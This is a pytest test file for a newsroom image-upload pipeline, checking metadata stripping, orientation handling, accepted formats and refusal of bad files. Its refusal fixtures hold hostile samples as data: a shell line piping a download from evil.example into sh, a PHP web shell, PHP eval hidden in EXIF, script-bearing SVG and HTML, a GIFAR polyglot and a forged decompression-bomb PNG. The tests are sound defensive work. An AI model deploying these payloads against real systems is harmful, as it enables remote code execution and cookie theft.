"""Safe uploads: refusals by content, bombs and size leave nothing behind; metadata is stripped, orientation applied."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import ExifTags, ImageCms
from PIL import Image as PILImage

from articles.images import ImageRefused, accepted_formats, import_image, store_upload
from articles.images.files import atomic_with_files
from articles.models import Image, Rendition
from articles.tests.pictures import encode, jpeg_bytes, revealing_exif, two_tone, upload

pytestmark = pytest.mark.django_db

REVEALING = [b"SN-0451-9981", b"Field Photographer", b"Canon", b"EOS R5", b"Exif\x00\x00", b"xmpmeta", b"shot from"]


def stored_files(media_root):
    return sorted(p for p in media_root.rglob("*") if p.is_file()) if media_root.exists() else []


def opened(field_file):
    with field_file.open("rb") as handle:
        data = handle.read()
    return data, PILImage.open(io.BytesIO(data))


def iptc_segment(byline):
    """A JPEG APP13 (Photoshop/IPTC) segment naming the photographer, as newsroom cameras and tools write."""
    dataset = b"\x1c\x02\x50" + struct.pack(">H", len(byline)) + byline
    resource = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(dataset)) + dataset
    if len(dataset) % 2:
        resource += b"\x00"
    body = b"Photoshop 3.0\x00" + resource
    return b"\xff\xed" + struct.pack(">H", len(body) + 2) + body


def with_iptc(jpeg, byline=b"Field Photographer"):
    return jpeg[:2] + iptc_segment(byline) + jpeg[2:]


def forged_png(width, height):
    """A tiny PNG whose header claims `width`×`height` pixels: a decompression bomb's calling card."""
    data = bytearray(encode(PILImage.new("L", (1, 1)), "PNG"))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("Exploit.class", b"\xca\xfe\xba\xbe payload")
    return buffer.getvalue()


# --- metadata ------------------------------------------------------------------------------------------


def test_uploaded_jpeg_with_gps_comes_out_without_any_metadata(media_root):
    data = with_iptc(
        jpeg_bytes(
            (300, 200),
            exif=revealing_exif(),
            xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 34.45N</x:xmpmeta>',
            comment=b"shot from the roof at 34.45N 40.91E",
        )
    )
    before = PILImage.open(io.BytesIO(data))
    assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the test file must really carry GPS tags"
    assert {"exif", "xmp", "comment", "photoshop"} <= set(before.info)

    image, created = store_upload(upload(data), credit="AFP", alt_text="A street")
    stored_data, stored = opened(image.file)

    assert created
    assert not stored.getexif()
    assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert not {"exif", "xmp", "comment", "photoshop"} & set(stored.info)
    for secret in REVEALING:
        assert secret not in stored_data
    for rendition in [*image.renditions_for(["w120-16x9.jpg", "w120-1x1.webp"]).values(), *image.renditions.all()]:
        rendition_data, picture = opened(rendition.file)
        assert not picture.getexif()
        assert not {"exif", "xmp", "comment", "photoshop"} & set(picture.info)
        for secret in REVEALING:
            assert secret not in rendition_data


def test_orientation_6_photo_is_stored_upright():
    # Orientation 6: the camera was turned; viewers rotate 90° clockwise, so the left (red) half ends on top.
    data = encode(two_tone((60, 40)), "JPEG", quality=95, exif=revealing_exif(orientation=6))

    image, _ = store_upload(upload(data), alt_text="A wall")
    _, stored = opened(image.file)

    assert (image.width, image.height) == (40, 60)
    assert stored.size == (40, 60)
    top, bottom = stored.convert("RGB").getpixel((20, 5)), stored.convert("RGB").getpixel((20, 55))
    assert top[0] > 150 > top[2], top
    assert bottom[2] > 150 > bottom[0], bottom
    assert ExifTags.Base.Orientation not in stored.getexif()


def test_colour_profile_is_the_one_thing_kept():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = jpeg_bytes((80, 60), icc_profile=profile, exif=revealing_exif())

    image, _ = store_upload(upload(data), alt_text="A field")

    assert opened(image.file)[1].info.get("icc_profile") == profile
    thumbnail = image.renditions.get()
    assert opened(thumbnail.file)[1].info.get("icc_profile") == profile


def test_png_text_chunks_are_dropped():
    info = __import__("PIL.PngImagePlugin", fromlist=["PngInfo"]).PngInfo()
    info.add_text("Author", "Field Photographer")
    info.add_text("Comment", "shot from the roof")
    data = encode(two_tone((40, 40), mode="RGBA"), "PNG", pnginfo=info)

    image, _ = store_upload(upload(data, "map.png", "image/png"), alt_text="A map")
    stored_data, stored = opened(image.file)

    assert stored.format == "PNG"
    assert b"Field Photographer" not in stored_data
    assert "Author" not in stored.info


# --- accepted formats ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "name", "stored_format"),
    [("PNG", "a.png", "PNG"), ("WEBP", "a.webp", "WEBP"), ("GIF", "a.gif", "GIF"), ("JPEG", "a.jpeg", "JPEG")],
)
def test_accepted_formats_are_stored_in_their_own_format(fmt, name, stored_format):
    picture = two_tone((50, 30), left=(10, 200, 10)).convert("P" if fmt == "GIF" else "RGB")

    image, created = store_upload(upload(encode(picture, fmt), name), alt_text="Test card")

    assert created
    assert image.original_format == fmt
    assert opened(image.file)[1].format == stored_format
    assert image.file.name.startswith("images/originals/")


def test_animated_gif_keeps_its_first_frame():
    frames = [two_tone((30, 30), left=c).convert("P") for c in [(250, 0, 0), (0, 250, 0), (0, 0, 250)]]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, comment=b"Field Photographer")

    image, _ = store_upload(upload(buffer.getvalue(), "anim.gif", "image/gif"), alt_text="Flag")
    stored_data, stored = opened(image.file)

    assert getattr(stored, "n_frames", 1) == 1
    assert stored.convert("RGB").getpixel((2, 2))[0] > 200
    assert b"Field Photographer" not in stored_data


def test_avif_is_accepted_when_this_pillow_reads_it():
    if "AVIF" not in accepted_formats():
        pytest.skip("this Pillow has no AVIF support")
    data = encode(two_tone((64, 48)), "AVIF", quality=80)

    image, _ = store_upload(upload(data, "phone.avif", "image/avif"), alt_text="A road")

    assert image.original_format == "AVIF"
    assert opened(image.file)[1].format == "JPEG"


def test_phone_trailer_after_a_jpeg_is_accepted_and_dropped():
    trailer = b"MotionPhoto_Data" + bytes(range(256)) * 4
    image, _ = store_upload(upload(jpeg_bytes() + trailer), alt_text="A street")

    assert trailer[:16] not in opened(image.file)[0]


def test_same_bytes_uploaded_twice_are_stored_once(media_root):
    data = jpeg_bytes()

    first, created_first = store_upload(upload(data, "one.jpg"), alt_text="A")
    second, created_second = store_upload(upload(data, "copy-of-one.jpg"), alt_text="B")

    assert (created_first, created_second) == (True, False)
    assert first.pk == second.pk
    assert Image.objects.count() == 1
    assert len([p for p in stored_files(media_root) if "originals" in str(p)]) == 1


def test_title_defaults_to_the_file_name():
    image, _ = store_upload(upload(jpeg_bytes(), "mosul_old-city_2017.jpg"), alt_text="Ruins")

    assert image.title == "mosul old city 2017"


# --- refusals: nothing is saved ------------------------------------------------------------------------

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"


def _gif():
    return encode(two_tone((20, 20)).convert("P"), "GIF")


REFUSED = {
    "script renamed .jpg": (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "not a picture"),
    "PHP renamed .jpg": (b"<?php system($_GET['c']); ?>", "not a picture"),
    "SVG with script": (SVG, "not a picture"),
    "HTML page": (HTML, "not a picture"),
    "TIFF (not accepted)": (encode(two_tone(), "TIFF"), "not a picture"),
    "BMP (not accepted)": (encode(two_tone(), "BMP"), "not a picture"),
    "empty file": (b"", "empty"),
    "truncated JPEG": (jpeg_bytes((400, 300))[:600], "damaged"),
    "JPEG with a ZIP appended": (jpeg_bytes() + zip_bytes(), "ZIP or JAR"),
    "GIFAR (GIF + JAR)": (_gif() + zip_bytes(), "ZIP or JAR"),
    "JPEG with HTML appended": (jpeg_bytes() + HTML, "markup or script"),
    "JPEG with script in its comment": (jpeg_bytes(comment=b"<script>alert(1)</script>"), "markup or script"),
    "JPEG with PHP in its EXIF": (jpeg_bytes(exif=b"Exif\x00\x00<?php eval($_POST[x]); ?>"), "markup or script"),
    "PDF header inside a JPEG": (jpeg_bytes(comment=b"%PDF-1.4 1 0 obj"), "PDF"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_upload_leaves_nothing_behind(case, media_root):
    data, reason = REFUSED[case]

    with pytest.raises(ImageRefused, match=reason):
        store_upload(upload(data, "photo.jpg"), alt_text="x", credit="x")

    assert Image.objects.count() == 0
    assert Rendition.objects.count() == 0
    assert stored_files(media_root) == []


def test_decompression_bomb_is_refused_before_decoding(media_root):
    # 9000 × 9000 = 81 megapixels declared in a file of a few dozen bytes.
    with pytest.raises(ImageRefused, match=r"9000 × 9000 pixels; the most the library accepts is 60 megapixels"):
        store_upload(upload(forged_png(9000, 9000), "bomb.png", "image/png"), alt_text="x")

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_bomb_beyond_pillows_own_limit_is_refused_too(media_root):
    with pytest.raises(ImageRefused, match="more pixels than the library accepts"):
        store_upload(upload(forged_png(60000, 60000), "bomb.png", "image/png"), alt_text="x")

    assert stored_files(media_root) == []


def test_pixel_limit_comes_from_settings(settings, media_root):
    settings.NEWSROOM_IMAGE_MAX_PIXELS = 100 * 100

    with pytest.raises(ImageRefused, match="200 × 200 pixels"):
        store_upload(upload(jpeg_bytes((200, 200))), alt_text="x")
    image, created = store_upload(upload(jpeg_bytes((100, 100))), alt_text="x")

    assert created
    assert Image.objects.count() == 1


def test_oversize_file_is_refused_with_its_size_and_the_limit(settings, media_root):
    settings.NEWSROOM_IMAGE_MAX_BYTES = 2000
    data = jpeg_bytes((400, 300))
    assert len(data) > 2000

    with pytest.raises(ImageRefused, match=r"the most the library accepts is 2\.0\xa0KB"):
        store_upload(upload(data), alt_text="x")

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_failure_after_the_file_was_written_removes_it(media_root):
    # The title is required by the database; a blank title after stripping falls back to the file name,
    # so force a database refusal with a focal point outside the picture.
    with pytest.raises(Exception, match="image_focal_point_inside|CHECK constraint"):
        store_upload(upload(jpeg_bytes()), alt_text="x", focal_x=1.5)

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []


# --- the importer's door ---------------------------------------------------------------------------------


def test_importer_attaches_a_local_picture_through_the_safe_path(tmp_path, reporter):
    path = tmp_path / "wire" / "AFP_123.jpg"
    path.parent.mkdir()
    path.write_bytes(jpeg_bytes((320, 200), exif=revealing_exif()))

    image = import_image(
        path, caption="Smoke over Mosul.", credit="AFP", alt_text="Smoke above rooftops", uploaded_by=reporter
    )

    assert (image.caption, image.credit, image.copyright_holder, image.alt_text) == (
        "Smoke over Mosul.",
        "AFP",
        "AFP",
        "Smoke above rooftops",
    )
    assert image.uploaded_by == reporter
    assert b"SN-0451-9981" not in opened(image.file)[0]


def test_importing_the_same_file_again_reuses_the_picture_and_keeps_the_desks_words(tmp_path):
    path = tmp_path / "photo.jpg"
    path.write_bytes(jpeg_bytes())
    first = import_image(path, caption="Wire caption", credit="", alt_text="")
    Image.objects.filter(pk=first.pk).update(caption="Desk caption")

    again = import_image(path, caption="Wire caption", credit="Reuters", alt_text="A bridge")

    assert again.pk == first.pk
    assert Image.objects.count() == 1
    again.refresh_from_db()
    assert (again.caption, again.credit, again.alt_text) == ("Desk caption", "Reuters", "A bridge")


@pytest.mark.parametrize(
    ("content", "reason"), [(b"MZ\x90\x00 not a picture", "not a picture"), (None, "No picture file")]
)
def test_importer_refuses_what_an_upload_would_and_saves_nothing(tmp_path, media_root, content, reason):
    path = tmp_path / "evil.jpg"
    if content is not None:
        path.write_bytes(content)

    with pytest.raises(ImageRefused, match=reason):
        import_image(path, caption="", credit="AFP", alt_text="x")

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []


class Refused(Exception):
    pass


def test_pictures_stored_in_a_transaction_that_rolls_back_leave_no_file(media_root):
    kept, _ = store_upload(upload(jpeg_bytes(size=(30, 20)), "kept.jpg"), alt_text="Kept")
    before = stored_files(media_root)
    with pytest.raises(Refused), atomic_with_files():
        store_upload(upload(jpeg_bytes(size=(50, 20)), "first.jpg"), alt_text="First")
        # A block inside that commits hands its files to the one around it, whose rollback takes its rows.
        with atomic_with_files():
            store_upload(upload(jpeg_bytes(size=(70, 20)), "second.jpg"), alt_text="Second")
        assert len(stored_files(media_root)) == len(before) + 4  # two originals, two thumbnails
        raise Refused
    assert list(Image.objects.all()) == [kept] and stored_files(media_root) == before
    # A block that commits keeps what it stored.
    with atomic_with_files():
        image, _ = store_upload(upload(jpeg_bytes(size=(90, 20)), "third.jpg"), alt_text="Third")
    assert image.file.storage.exists(image.file.name) and len(stored_files(media_root)) == len(before) + 2
